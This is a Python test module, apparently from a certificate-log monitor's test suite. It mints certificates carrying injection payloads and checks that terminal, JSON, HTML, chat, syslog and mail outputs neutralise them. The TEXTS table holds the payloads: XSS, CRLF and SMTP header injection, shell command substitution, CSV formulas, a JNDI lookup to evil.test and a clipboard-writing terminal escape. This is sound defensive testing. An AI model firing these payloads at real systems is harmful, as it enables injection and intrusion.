"""Texts that break out of where they are put, and the judges that notice.

A payload comes in a certificate, a record, a log list or an answer, and ends
in an output; what "raw" means depends on the output:

people's text  a control character, one that hides or that changes direction,
               or a line that a value has begun (terminal, letters, README,
               diagnostics, syslog)
JSON           the same, or bytes that a strict parser does not take
HTML           an element or attribute that pages with harmless values have
               not
chat           what the room would take for markup
"""
import base64
import collections
import html
import json
import re

from tests.fakelog import der
from tests.fakelog.mint import Authority, Mint
from .report_page import Page

# --- what comes in -----------------------------------------------------------

Payload = collections.namedtuple("Payload", "number kind text value")

# Behind every line break: a line that begins so was begun by a value.
FORGED = "Zforged"
DOMAIN = "inject.example"

TEXTS = {
    "escape": [
        "\x1b[35mpink", "\x1b[2J\x1b[Hwiped", "\x1b[8mhidden\x1b[28m",
        "\x1b]0;title\x07", "\x1b]8;;http://evil.test/\x1b\\link\x1b]8;;"
        "\x1b\\", "\x1b]52;c;cm0gLXJm\x07", "\x1bP$q\"p\x1b\\", "\x1b[5n",
        "\x1b[6n", "\x1bc", "\x1b[3A\x1b[2K", "\x1b[?1049h",
        "\x1b]50;#0\x07", "a\x1b"],
    "c0": ["bell\x07", "back\x08\x08\x08space", "tab\tular", "nul\0byte",
           "shift\x0e\x0fin", "xon\x11\x13", "del\x7fete", "unit\x1c\x1d\x1e"
           "\x1f"],
    "c1": ["\x9b35mpink", "\x9d0;title\x9c", "\x90q\x9c", "nel\x85" + FORGED,
           "\x84\x88\x8d"],
    "line": [
        "cr\r" + FORGED, "lf\n" + FORGED, "crlf\r\nBcc: eve@evil.test\r\n" +
        FORGED, "head\r\n\r\n<b>" + FORGED, "vt\x0b" + FORGED,
        "ff\x0c" + FORGED, "ls\u2028" + FORGED, "ps\u2029" + FORGED,
        "dot\r\n.\r\nMAIL FROM:<eve@evil.test>\r\n" + FORGED,
        "log\n<0>1 2026-01-01T00:00:00Z - indelible - x\n" + FORGED],
    "bidi": ["\u202egnp.exe", "\u202d\u202dltr", "\u202a\u202b\u202c",
             "\u2066x\u2069", "\u2067\u2068", "\u200e\u200f", "\u061cletter",
             "a\u202eb\u2066c\u2069"],
    "hidden": ["zero\u200bwidth", "join\u200c\u200der", "word\u2060",
               "bom\ufeff", "soft\xadhyphen", "mongol\u180e",
               "note\ufff9\ufffa\ufffb", "tag\U000e0041\U000e007f"],
    "html": [
        "<script>pwned=1</script>", "\"><img src=x onerror=pwned=1>",
        "'><svg/onload=pwned=1>", "</title></style></script><b>x",
        "<a href=javascript:pwned=1>x</a>", "<!--", "]]>-->", "&lt;b&gt;&#60;",
        "\" onmouseover=\"pwned=1", "<iframe src=//evil.test></iframe>",
        "<link rel=stylesheet href=//evil.test/x.css>",
        "<base href=//evil.test/>", "<form action=//evil.test><input>",
        "<meta http-equiv=refresh content=0;url=//evil.test>"],
    "csv": ["=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"//evil.test\")", "a\",\"b"],
    "json": ["\",\"severity\":\"info", "\\\",\\\"x\\\":\\\"", "\\u0022}",
             "\"}]}", "\\", "\\u202e"],
    "shell": ["$(id)", "`id`", "; id #", "' ; id '", "|id|", "&& id",
              "${IFS}id", "-rf"],
    "chat": ["<!channel>", "<@U012AB3CD>", "<http://evil.test|click>",
             "*bold* _it_ ~s~ `c`", "[click](http://evil.test)",
             "<at>everyone</at>", "@here"],
    "template": ["{issuer}", "{?known}", "%s%n%x", "${jndi:ldap://evil.test}",
                 "{{7*7}}", "[full name]"],
}
# They stay as they are, up to markup: nothing about them is dangerous to a
# terminal, and no parser of names changes them.
PLAIN = ("html", "csv", "json", "shell", "chat", "template")


def mark(number):
    """What a payload is followed by, to see that it arrived."""
    return "Q%03dz" % number


def _all():
    out = []
    for kind, texts in TEXTS.items():
        for text in texts:
            out.append(Payload(len(out), kind, text, "%s %s" % (
                text, mark(len(out)))))
    return out


PAYLOADS = _all()
MARKS = re.compile(r"Q\d{3}z")
STRINGS = ["UTF8String", "BMPString", "TeletexString", "PrintableString",
           "UniversalString", "IA5String"]


def fits(text, kind):
    """Whether a string type has all the characters."""
    try:
        return bool(der.string(text, kind))
    except UnicodeEncodeError:
        return False


def attribute(name, value, turn):
    """An attribute; string types take turns."""
    types = [kind for kind in STRINGS if fits(value, kind)]
    return [name, value, types[turn % len(types)]]


def issuer(value, turn, organization=None):
    """A CA of that name."""
    return Authority([attribute("O", organization or value, turn),
                      attribute("CN", value, turn + 1)])


def local(value):
    """The local part of an address that is quoted as RFC 5322 has it."""
    return '"%s"' % value.replace("\\", "\\\\").replace('"', '\\"')


def certificates(payload, organization=None):
    """Certificates whose every text is the payload: by an address, a login
    name, a messaging address, and a name."""
    mint, value, turn = Mint(), payload.value, payload.number
    mint.authorities[0] = issuer(value, turn, organization)
    texts = [attribute(name, value, turn + i) for i, name in enumerate(
        ["O", "OU", "title", "L", "street", "pseudonym", "CN"])]
    where = der.seq(der.seq(der.oid("2.5.29.32.0"), der.seq(der.seq(
        der.oid("1.3.6.1.5.5.7.2.1"), der.tlv(0x16, value.encode())))))
    rest = {"eku": ["emailProtection"], "extra": [
        ["2.5.29.32", where.hex()],
        ["2.16.840.1.113730.1.13", der.tlv(0x16, value.encode()).hex()]]}
    for more in (
            {"subject": texts, "sans": [
                ["rfc822", "%s@%s" % (local(value), DOMAIN)]]},
            {"subject": texts[:1], "sans": [
                ["upn", "%s@%s" % (value, DOMAIN)],
                ["uri", "https://%s@evil.test/" % value]]},
            {"subject": texts[1:2], "sans": [
                ["xmpp", "bob@%s/%s" % (DOMAIN, value)],
                ["dirname", texts[:2]]]},
            {"subject": [["GN", "Jane Quillfeather"], ["SN", "Roe"],
                         attribute("CN", "Jane Quillfeather Roe " + value,
                                   turn)]}):
        yield mint.mint(dict(rest, **more)).final


def entries(payload, **how):
    """The same as what a log is made of."""
    return [{"der": base64.b64encode(body).decode()}
            for body in certificates(payload, **how)]


def harmless():
    """A payload that is none."""
    return Payload(999, "none", "Harmless", "Harmless " + mark(999))


# --- people's text -----------------------------------------------------------

# Controls but the line end; and what hides or changes the direction.
UNSAFE = re.compile("[\0-\x09\x0b-\x1f\x7f-\x9f\xad\u061c\u180e"
                    "\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff"
                    "\ufff9-\ufffb\U000e0000-\U000e0fff]")
FORGED_LINE = re.compile("(?m)^" + FORGED)
# What the program itself writes to a terminal: colours, and its progress.
OWN = re.compile("\x1b\\[(?:0|1|2|1;31|31|33|36)m|\r\x1b\\[K|"
                 "\r\\[[#.]{30}\\] [^\r\x1b]* \x1b\\[K\r")


class Raw(AssertionError):
    """Something passed."""


def around(text, at):
    """Where it stands, to be read."""
    return ascii(text[max(at - 60, 0):at + 60])


def lines(text):
    """Text for people."""
    for found in (UNSAFE.search(text), FORGED_LINE.search(text)):
        if found:
            raise Raw("raw: " + around(text, found.start()))
    return text


def prose(text):
    """Paragraphs, whose lines are broken at any blank."""
    found = UNSAFE.search(text)
    if found:
        raise Raw("raw: " + around(text, found.start()))


def terminal(text):
    """The same on a terminal, which makes \\r\\n of \\n."""
    return lines(OWN.sub("", text.replace("\r\n", "\n")))


# --- JSON --------------------------------------------------------------------

def _unique(pairs):
    if len(dict(pairs)) != len(pairs):
        raise Raw("a key twice: %s" % [key for key, _ in pairs])
    return dict(pairs)


def _refuse(word):
    raise Raw("no JSON: " + word)


def strict(text):
    """One JSON text, safe on a terminal, too."""
    if isinstance(text, bytes):
        try:
            text = text.decode()
        except UnicodeDecodeError as wrong:
            raise Raw("no UTF-8: %s" % wrong) from None
    lines(text)
    try:
        return json.loads(text, object_pairs_hook=_unique,
                          parse_constant=_refuse)
    except json.JSONDecodeError as wrong:
        raise Raw("no JSON: %s" % wrong) from None


def strict_lines(text):
    """JSON Lines."""
    return [strict(line) for line in text.rstrip("\n").split("\n") if line]


def shape(value, path=""):
    """The paths of all that is in it: where a value breaks out there are
    more."""
    out = {path}
    if isinstance(value, dict):
        for key, item in value.items():
            out |= shape(item, path + "." + key)
    elif isinstance(value, list):
        for item in value:
            out |= shape(item, path + "[]")
    return out


# --- HTML --------------------------------------------------------------------

# Attributes in which a foreign text may stand.
SPOKEN = {"title", "data-t", "aria-label", "alt"}


class Styled(Page):
    """Mails have their style in the elements: many readers know no other."""

    def _note(self, tag, attributes):
        super()._note(tag, {name: value for name, value in attributes.items()
                            if name != "style"})
        self.tags[-1] = (tag, attributes)


class Markup:
    """What pages of a kind consist of, learnt from a harmless one."""

    def __init__(self, source):
        self.elements, self.code = self.read(source)

    @staticmethod
    def read(source):
        """Elements with the names of their attributes; script and style."""
        try:
            page = Styled(source)
        except (AssertionError, IndexError) as wrong:
            raise Raw("not well-formed: %s" % wrong) from None
        for tag, has in page.tags:
            for name, value in has.items():
                if name not in SPOKEN and MARKS.search(value or ""):
                    raise Raw("in an attribute: %s %s" % (tag, name))
        return ({(tag, tuple(sorted(has))) for tag, has in page.tags},
                (page.element("script"), page.element("style")))

    def judge(self, source):
        """A page with other values."""
        elements, code = self.read(source)
        for own in code:
            source = source.replace(own, "", 1)
        lines(source)
        if elements - self.elements:
            raise Raw("markup: %s" % (elements - self.elements))
        if code != self.code:
            raise Raw("another script or style")


DRAWN = """return [...new Set([...document.querySelectorAll('*')].map(
e => e.localName + ' ' + [...e.attributes].map(a => a.name).sort()))]"""


def drawn(browser, path):
    """The elements of a page as a browser has them, scripts and all; nothing
    else may happen."""
    browser.open(path)
    out = set(browser.script(DRAWN))
    if browser.script("return typeof pwned !== 'undefined'"):
        raise Raw("a script has run")
    said = browser.complaints() + browser.requests()
    if said:
        raise Raw("the browser says %s" % said)
    return out


def seen_by(browser, path, known):
    """A page with other values than the one whose elements are known."""
    more = drawn(browser, path) - known
    if more:
        raise Raw("elements: %s" % more)


# --- chat --------------------------------------------------------------------

ENTITY = re.compile("&(?!(?:amp|lt|gt);)|[<>]")


def texts_of(value):
    """(path, text) of all texts."""
    if isinstance(value, dict):
        for key, item in value.items():
            for path, text in texts_of(item):
                yield "." + key + path, text
    elif isinstance(value, list):
        for item in value:
            for path, text in texts_of(item):
                yield "[]" + path, text
    elif isinstance(value, str):
        yield "", value


def known_shape(message, known):
    """It has no more parts than harmless ones."""
    if shape(message) - known:
        raise Raw("more than words: %s" % (shape(message) - known))
    return message


def slack(body, known):
    """A message: the shape of harmless ones, text blocks that are plain, and
    nothing in angle brackets."""
    message = known_shape(strict(body), known)
    if message["mrkdwn"] or any(block["text"]["type"] != "plain_text"
                                for block in message["blocks"]):
        raise Raw("a block with markup")
    for path, text in texts_of(message):
        lines(text)
        if ENTITY.search(text):
            raise Raw("%s: %s" % (path, ascii(text)))
    return html.unescape(message["blocks"][1]["text"]["text"])


def teams(body, known):
    """A card: foreign text stands in runs of text alone, each in its line."""
    message = known_shape(strict(body), known)
    out = []
    for path, text in texts_of(message):
        if MARKS.search(text) and not path.endswith(".inlines[].text"):
            raise Raw("%s: %s" % (path, ascii(text)))
        if "\n" in text:
            raise Raw("a line in a line: " + ascii(text))
        out.append(lines(text))
    kinds = {text for path, text in texts_of(message)
             if path.endswith(".type")}
    if kinds != {"message", "AdaptiveCard", "RichTextBlock", "TextRun"}:
        raise Raw("blocks: %s" % kinds)
    return "\n".join(out)


# --- syslog ------------------------------------------------------------------

RFC5424 = re.compile(
    rb"<(\d{1,3})>1 \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z - indelible - "
    rb"([!-~]{1,32}) - id=([0-9a-f]{32}) ([^\n]*)\Z")


def syslog(datagram):
    """One message of RFC 5424, in one line."""
    found = RFC5424.match(datagram)
    if found is None:
        raise Raw("no message: " + ascii(datagram))
    try:
        lines(found.group(4).decode())
    except UnicodeDecodeError:
        raise Raw("no UTF-8: " + ascii(datagram)) from None
    return found.group(2).decode(), found.group(4).decode()


# --- mail --------------------------------------------------------------------

MAILED = {"from", "to", "subject", "date", "message-id", "auto-submitted",
          "content-language", "list-unsubscribe", "list-unsubscribe-post",
          "mime-version", "content-type", "content-transfer-encoding",
          "content-disposition", "in-reply-to", "references"}


def headers(mail, about=""):
    """Nothing foreign stands in the headers of a mail or of its parts; `about`
    is the recipient, who may have a strange address."""
    if b"\r" in mail.raw.replace(b"\r\n", b"") or \
            b"\n" in mail.raw.replace(b"\r\n", b""):
        raise Raw("a line end by halves")
    for part in mail.message.walk():
        if part.defects:
            raise Raw("defects: %s" % part.defects)
        names = [name.lower() for name in part]
        if set(names) - MAILED or len(set(names)) != len(names):
            raise Raw("headers: %s" % names)
        for name, value in part.items():
            value = str(value)
            if name.lower() == "to" and about:
                continue
            lines(value)
            if MARKS.search(value) or DOMAIN in value:
                raise Raw("%s: %s" % (name, ascii(value)))


def parts(mail):
    """[(type, name of the file, text)] of a mail's parts."""
    out = []
    for part in mail.message.walk():
        if part.is_multipart():
            continue
        text = part.get_content()
        if isinstance(text, bytes):
            text = text.decode()
        out.append((part.get_content_type(), part.get_filename(),
                    text.replace("\r\n", "\n")))
    return out
